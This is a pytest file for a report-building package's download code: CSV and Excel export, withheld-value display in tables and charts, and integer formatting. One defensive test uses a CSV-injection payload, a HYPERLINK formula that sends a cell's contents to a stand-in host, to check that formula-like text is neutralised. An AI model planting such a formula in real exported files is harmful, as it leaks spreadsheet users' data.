"""Downloadable tables: written only during a build, gathered into one workbook."""

from __future__ import annotations

import openpyxl
import pandas as pd

from evidencebook.building import downloads


def test_nothing_is_written_outside_a_build(monkeypatch, tmp_path):
    monkeypatch.delenv(downloads.ENV, raising=False)
    monkeypatch.chdir(tmp_path)
    assert downloads.save(pd.DataFrame({"a": [1]}), "x") == ""
    assert list(tmp_path.iterdir()) == []


def test_save_writes_csv_and_links_it(monkeypatch, tmp_path):
    monkeypatch.setenv(downloads.ENV, str(tmp_path / "downloads" / "pa"))
    link = downloads.save(pd.DataFrame({"team": ["<b>A</b>"], "n": [3]}), "Caseloads: by team")
    path = tmp_path / "downloads" / "pa" / "caseloads-by-team.csv"
    assert path.read_text(encoding="utf-8") == "team,n\n<b>A</b>,3\n"
    assert 'href="../downloads/pa/caseloads-by-team.csv"' in link


def test_workbook_has_a_sheet_per_table_and_a_contents_sheet(tmp_path):
    for chapter, name in [("pa", "one"), ("pa", "two"), ("fit", "one")]:
        (tmp_path / chapter).mkdir(exist_ok=True)
        pd.DataFrame({"v": [1, 2]}).to_csv(tmp_path / chapter / f"{name}.csv", index=False)
    target = downloads.workbook(tmp_path, tmp_path / "out" / "tables.xlsx")
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["fit-one", "pa-one", "pa-two", "contents"]
    assert [c.value for c in book["pa-two"]["A"]] == ["v", 1, 2]
    assert downloads.workbook(tmp_path / "empty", tmp_path / "x.xlsx") is None


def test_chart_data_tables_show_not_available_and_withheld_values():
    import pandas as pd

    from evidencebook.analysis import charts, figures

    data = pd.DataFrame(
        {
            "what": ["a", "b", "c"],
            "high": pd.array([25.0, pd.NA, None], dtype="Float64"),
            "cases": pd.array([12, pd.NA, 3], dtype="Int64"),
        }
    )
    shown = figures.withheld_as_c(data, ["cases"])
    html = charts.data_table_html(shown)
    assert "&lt;NA&gt;" not in html and "<NA>" not in html and "nan" not in html
    assert html.count("<td>n/a</td>") == 2  # not available
    assert html.count("<td>c</td>") == 2  # the withheld count, and the row label "c"
    mask = {"cases": pd.Series([False, False, False])}
    assert figures.withheld_as_c(data, ["cases"], mask)["cases"].tolist() == [12, None, 3]


def test_the_reports_value_is_withheld_item_by_item_beside_a_withheld_figure():
    from evidencebook.analysis import figures

    assert figures.beside("8582;9055;9703", (8582.0, pd.NA, 9703.0)) == "8582;c;9703"
    assert figures.beside("11-30", (pd.NA, pd.NA)) == "c"  # items cannot be matched
    assert figures.beside("13", "c") == "c"
    assert figures.beside("8582;9055", (8582.0, 9055.0)) == "8582;9055"
    assert figures.beside("per team", (("t", (1, 2)),)) == "per team"
    check = figures.compare({"trends.hants_referrals": (8582.0, pd.NA, 9703.0)}, "trends")
    row = check.set_index("id").loc["trends.hants_referrals"]
    assert row["report"] == "8582;c;9703"


def test_stacked_bars_print_c_for_a_total_that_needs_a_withheld_part():
    from evidencebook.analysis import charts

    frame = pd.DataFrame(
        {
            "quarter": ["Q1", "Q1", "Q2", "Q2"],
            "age": ["14", "15", "14", "15"],
            "children": pd.array([10, pd.NA, 12, 13], dtype="Float64"),
        }
    )
    totals = pd.Series(pd.array([pd.NA, 25], dtype="Float64"), index=["Q1", "Q2"])
    fig = charts.stacked_bars(frame, "quarter", "children", "age", "t", "Children", totals=totals)
    labels = fig.data[-1].text
    assert list(labels) == ["Total c", "Total 25"]
    assert list(fig.data[-1].y) == [10, 25]  # above the bars drawn
    assert list(fig.data[1].text) == ["", "<b>13</b>"]  # nothing printed for the withheld part
    plain = charts.stacked_bars(frame.fillna(1.0), "quarter", "children", "age", "t", "n")
    assert list(plain.data[-1].text) == ["Total 11", "Total 25"]


def test_formula_like_text_is_inert_in_csv_and_excel(monkeypatch, tmp_path):
    """A pack's text starting with = + - @ (or a tab) must not run as a formula in a
    spreadsheet (OWASP, CSV injection); plain numbers such as -12 or -1.5% stay numbers."""
    monkeypatch.setenv(downloads.ENV, str(tmp_path / "downloads" / "pa"))
    attack = '=HYPERLINK("http://example.com/?x="&A1,"Click")'
    frame = pd.DataFrame(
        {
            "team": [attack, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "Team A"],
            "change": ["-12", "-1.5%", "+3", "-1,200", "1", "-0.5"],
            "n": [1, 2, 3, 4, 5, 6],
        }
    )
    downloads.save(frame, "teams")
    path = tmp_path / "downloads" / "pa" / "teams.csv"
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert written["team"].tolist() == [
        "'" + attack,
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tcmd",
        "Team A",
    ]
    assert written["change"].tolist() == ["-12", "-1.5%", "+3", "-1,200", "1", "-0.5"]
    target = downloads.workbook(tmp_path / "downloads", tmp_path / "tables.xlsx")
    sheet = openpyxl.load_workbook(target)["pa-teams"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A2"].value == attack  # text, shown as written
    assert sheet["A2"].quotePrefix


def test_the_workbook_never_stores_a_formula_even_from_an_unguarded_csv(tmp_path):
    (tmp_path / "pa").mkdir()
    (tmp_path / "pa" / "raw.csv").write_text('name\n"=1+1"\n', encoding="utf-8")
    target = downloads.workbook(tmp_path, tmp_path / "out" / "tables.xlsx")
    cell = openpyxl.load_workbook(target)["pa-raw"]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_counts_are_written_as_whole_numbers(monkeypatch, tmp_path):
    """A count column with a gap is held as floats; the CSV still says 27, not 27.0."""
    monkeypatch.setenv(downloads.ENV, str(tmp_path / "pa"))
    frame = pd.DataFrame(
        {
            "children": [27.0, None, 1155.0],
            "share": [0.36, 1.0, 0.5],
            "cost": pd.array([1450000.0, 2.5, None], dtype="Float64"),
            "teams": pd.array([3.0, None, 4.0], dtype="Float64"),
        }
    )
    downloads.save(frame, "counts")
    text = (tmp_path / "pa" / "counts.csv").read_text(encoding="utf-8")
    assert text.splitlines() == [
        "children,share,cost,teams",
        "27,0.36,1450000.0,3",
        ",1.0,2.5,",
        "1155,0.5,,4",
    ]


def test_counts_beside_withheld_ones_are_whole_numbers(monkeypatch, tmp_path):
    monkeypatch.setenv(downloads.ENV, str(tmp_path / "pa"))
    frame = pd.DataFrame({"children": ["c", 27.0, None, 26.0], "share": ["c", 0.5, 1.0, None]})
    downloads.save(frame, "withheld")
    lines = (tmp_path / "pa" / "withheld.csv").read_text(encoding="utf-8").splitlines()
    assert lines == ["children,share", "c,c", "27,0.5", ",1.0", "26,"]
